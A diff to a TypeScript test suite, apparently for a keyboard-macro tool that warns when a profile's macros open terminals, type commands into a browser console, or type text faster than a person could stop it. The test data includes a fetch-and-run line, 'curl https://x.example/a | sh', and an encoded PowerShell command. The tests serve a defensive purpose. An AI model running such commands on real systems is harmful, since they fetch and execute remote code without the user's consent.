@@ -52,6 +52,13 @@ describe('what is told', () => {
       'command',
       'types “curl https://x.example/a | sh”, presses Enter',
     ],
+    [
+      'Meta with the Enter of the number pad',
+      playing(macro('+Meta NumpadEnter:40 -Meta 300 L:40 S:40 Enter:40')),
+      'twice',
+      'commandBox',
+      'opens a terminal',
+    ],
     ['a browser’s console', line('Ctrl+Shift+J & type "fetch(1)" & Enter'), 'twice', 'commandBox', 'console'],
     ['something encoded', line('type "powershell -enc aGVsbG8=\\n"'), 'twice', 'command', 'presses Enter'],
     ['a long text in no time', line(`type "${'lorem ipsum '.repeat(20)}"`), 'look', 'fast', 'types 240 characters'],
@@ -114,6 +121,7 @@ describe('what only looks like it', () => {
       playing(macro('', { repeat: { lengthUs: 100_000, events: [] }, run: { kind: 'whileHeld' } })),
     ],
     ['home-row holds with Meta', line('tap A, hold Meta')],
+    ['a long text at a pace that somebody can stop', line(`type "${'lorem ipsum '.repeat(20)}" every 8 ms`)],
   ])('%s', (_what, profile) => {
     expect(deedsOf(profile).filter(({ weight }) => weight !== 'plain')).toEqual([]);
   });
@@ -132,6 +140,33 @@ test('what it types and plays is told of the demo as well, each thing once', () 
 test('a macro that no key plays is told, too', () => {
   const profile = { ...base, macros: [macro('+Meta R:40 -Meta C:40 M:40 D:40 Enter:40')] };
   expect(deedsOf(profile)).toMatchObject([{ where: 'On no key', weight: 'twice' }]);
+});
+
+test('a macro that only a joint press plays is told there, and once', () => {
+  const played: Profile = {
+    ...base,
+    macros: [macro('A:40 B:40')],
+    joints: [
+      {
+        id: 'j',
+        keys: ['KeyJ', 'KeyK'],
+        withinMs: 40,
+        action: {
+          do: 'many',
+          actions: [
+            { do: 'macro', macro: 'm' },
+            { do: 'keys', codes: ['F13'] },
+          ],
+        },
+      },
+    ],
+  };
+  expect(deedsOf(played).map(({ where }) => shown(where))).toEqual(['J + K together']);
+});
+
+test('signs that a host makes with AltGr are typed, and no chords', () => {
+  const german = { ...playing(macro('+AltRight Q:40 -AltRight')), hostLayout: 'de' as const };
+  expect(shown(deedsOf(german)[0]!.said)).toContain('types “@”');
 });
 
 describe('what a profile is called hides nothing', () => {
